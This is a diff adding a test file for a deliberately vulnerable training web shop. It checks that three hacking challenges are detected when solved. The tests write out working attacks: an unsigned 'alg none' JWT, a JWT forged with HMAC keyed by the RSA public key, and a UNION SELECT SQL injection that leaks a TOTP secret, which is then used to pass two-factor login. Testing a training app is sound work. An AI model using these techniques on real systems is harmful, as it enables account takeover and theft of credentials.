@@ -1,0 +1,95 @@
+import { createHmac } from 'node:crypto'
+import type { ChallengeKey } from '@pulp/challenges'
+import { generateSync } from 'otplib'
+import request from 'supertest'
+import { beforeEach, describe, expect, it } from 'vitest'
+import { createTestShop, tokenFor, type TestShop } from '../../testing/test-app'
+
+let shop: TestShop
+beforeEach(() => {
+  shop = createTestShop()
+})
+
+const solved = (key: ChallengeKey) => shop.ctx.training.isSolved(key)
+const base64url = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url')
+const listUsers = (token: string) => request(shop.app).get('/api/Users').set('Authorization', `Bearer ${token}`)
+
+describe('jwtUnsignedChallenge', () => {
+  const unsigned = (email: string) => `${base64url({ alg: 'none' })}.${base64url({ data: { email } })}.`
+
+  it('is solved by an unsigned token for jwtn3d, which the API accepts', async () => {
+    const response = await listUsers(unsigned('jwtn3d@juice-sh.op'))
+    expect(response.status).toBe(200)
+    expect(response.body.status).toBe('success')
+    expect(solved('jwtUnsignedChallenge')).toBe(true)
+  })
+
+  it('is not solved by an unsigned token for someone else or a properly signed one for jwtn3d', async () => {
+    await listUsers(unsigned('jim@juice-sh.op'))
+    await listUsers(tokenFor({ email: 'jwtn3d@juice-sh.op' }))
+    expect(solved('jwtUnsignedChallenge')).toBe(false)
+  })
+})
+
+describe('jwtForgedChallenge', () => {
+  async function forged(email: string): Promise<string> {
+    const publicKey = await request(shop.app).get('/encryptionkeys/jwt.pub').buffer(true).parse((res, done) => {
+      let text = ''
+      res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')))
+      res.on('end', () => done(null, text))
+    })
+    expect(publicKey.status).toBe(200)
+    const signingInput = `${base64url({ typ: 'JWT', alg: 'HS256' })}.${base64url({ data: { email } })}`
+    return `${signingInput}.${createHmac('sha256', publicKey.body as string).update(signingInput).digest('base64url')}`
+  }
+
+  it('is solved by a token for rsa_lord signed with HS256 keyed by the public key file', async () => {
+    const response = await listUsers(await forged('rsa_lord@juice-sh.op'))
+    expect(response.status).toBe(200)
+    expect(solved('jwtForgedChallenge')).toBe(true)
+  })
+
+  it('is not solved by a forged token for someone else or an unsigned one for rsa_lord', async () => {
+    await listUsers(await forged('jim@juice-sh.op'))
+    await listUsers(`${base64url({ alg: 'none' })}.${base64url({ data: { email: 'rsa_lord@juice-sh.op' } })}.`)
+    expect(solved('jwtForgedChallenge')).toBe(false)
+  })
+})
+
+describe('twoFactorAuthUnsafeSecretStorageChallenge', () => {
+  const WURSTBROT = "wurstbrot@juice-sh.op'--"
+
+  it("is solved by stealing wurstbrot's TOTP secret with SQL injection and passing his second factor", async () => {
+    const search = await request(shop.app)
+      .get('/rest/products/search')
+      .query({ q: "')) UNION SELECT id, email, totpSecret, 4, 5, 6, 7, 8, 9 FROM Users--" })
+    expect(search.status).toBe(200)
+    const leaked = (search.body.data as { name: string; description: string }[]).find((row) => row.name === 'wurstbrot@juice-sh.op')
+    expect(leaked?.description).toBe('IFTXE3SPOEYVURT2MRYGI52TKJ4HC3KH')
+
+    const login = await request(shop.app).post('/rest/user/login').send({ email: WURSTBROT, password: 'x' })
+    expect(login.status).toBe(401)
+    expect(login.body.status).toBe('totp_token_required')
+
+    const verify = await request(shop.app)
+      .post('/rest/2fa/verify')
+      .send({ tmpToken: login.body.data.tmpToken, totpToken: generateSync({ secret: leaked!.description }) })
+    expect(verify.status).toBe(200)
+    expect(verify.body.authentication.umail).toBe('wurstbrot@juice-sh.op')
+    expect(solved('twoFactorAuthUnsafeSecretStorageChallenge')).toBe(true)
+  })
+
+  it('is not solved by a wrong code, or by another user passing their own second factor', async () => {
+    const login = await request(shop.app).post('/rest/user/login').send({ email: WURSTBROT, password: 'x' })
+    expect((await request(shop.app).post('/rest/2fa/verify').send({ tmpToken: login.body.data.tmpToken, totpToken: '000000' })).status).toBe(401)
+
+    const { token } = await shop.login('jim@juice-sh.op', 'ncc-1701')
+    const { secret, setupToken } = (await request(shop.app).get('/rest/2fa/status').set('Authorization', `Bearer ${token}`)).body
+    await request(shop.app).post('/rest/2fa/setup').set('Authorization', `Bearer ${token}`)
+      .send({ password: 'ncc-1701', setupToken, initialToken: generateSync({ secret }) })
+    const jim = await request(shop.app).post('/rest/user/login').send({ email: 'jim@juice-sh.op', password: 'ncc-1701' })
+    const verified = await request(shop.app).post('/rest/2fa/verify').send({ tmpToken: jim.body.data.tmpToken, totpToken: generateSync({ secret }) })
+    expect(verified.status).toBe(200)
+    expect(solved('twoFactorAuthUnsafeSecretStorageChallenge')).toBe(false)
+  })
+})
